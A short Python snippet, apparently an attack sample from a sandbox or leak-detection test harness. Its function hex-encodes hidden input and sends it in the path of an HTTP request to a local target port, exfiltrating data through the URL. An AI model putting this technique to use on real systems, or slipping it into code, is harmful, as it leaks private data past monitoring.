"""Sends the hidden input out as a part of a URL."""

import encodings.idna  # noqa: F401 - or names would be missed
import http.client  # noqa: F401
import urllib.request


def attack(A):
    place = f"http://127.0.0.1:{TARGET['tcp']}/{A.tobytes().hex()[:100]}"
    with urllib.request.urlopen(place, timeout=0.5) as answer:
        return answer.read()
